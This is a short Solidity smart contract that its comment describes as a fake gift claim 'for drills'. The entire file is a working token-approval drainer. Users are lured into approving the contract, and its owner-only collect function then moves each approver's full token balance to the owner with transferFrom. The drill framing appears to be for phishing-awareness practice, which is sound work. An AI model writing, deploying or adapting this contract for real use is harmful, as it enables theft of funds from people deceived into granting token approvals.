// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

import {IERC20} from "./ERC20.sol";

/// Looks like the claim of a gift, for drills: whoever "claims" is asked to approve this contract first. Its owner then
/// takes from everybody who did.
contract Claim {
    address private immutable owner;

    error NotOwner(address caller);

    constructor() {
        owner = msg.sender;
    }

    function collect(address token, address[] calldata from) external {
        if (msg.sender != owner) revert NotOwner(msg.sender);
        for (uint256 place = 0; place < from.length; place++) {
            uint256 amount = IERC20(token).balanceOf(from[place]);
            IERC20(token).transferFrom(from[place], owner, amount);
        }
    }
}
